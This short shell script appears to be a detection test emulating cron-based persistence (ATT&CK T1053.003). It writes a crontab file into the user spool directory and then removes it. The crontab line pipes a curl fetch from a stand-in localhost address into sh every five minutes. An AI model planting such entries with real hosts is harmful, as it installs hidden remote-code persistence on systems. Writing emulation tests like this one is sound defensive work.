#!/bin/sh
# T1053.003, after Atomic Red Team "Cron - Add script to all cron subfolders" done through the
# per-user spool: a crontab file for an account, written directly, then removed.
set -e
d=/var/spool/cron/crontabs
created=; [ -d "$d" ] || { mkdir -p "$d"; created=1; }
f="$d/scn$$"
echo '*/5 * * * * curl -s http://127.0.0.1:1/x | sh' > "$f"
rm -f "$f"
[ -z "$created" ] || rmdir "$d" 2>/dev/null || true
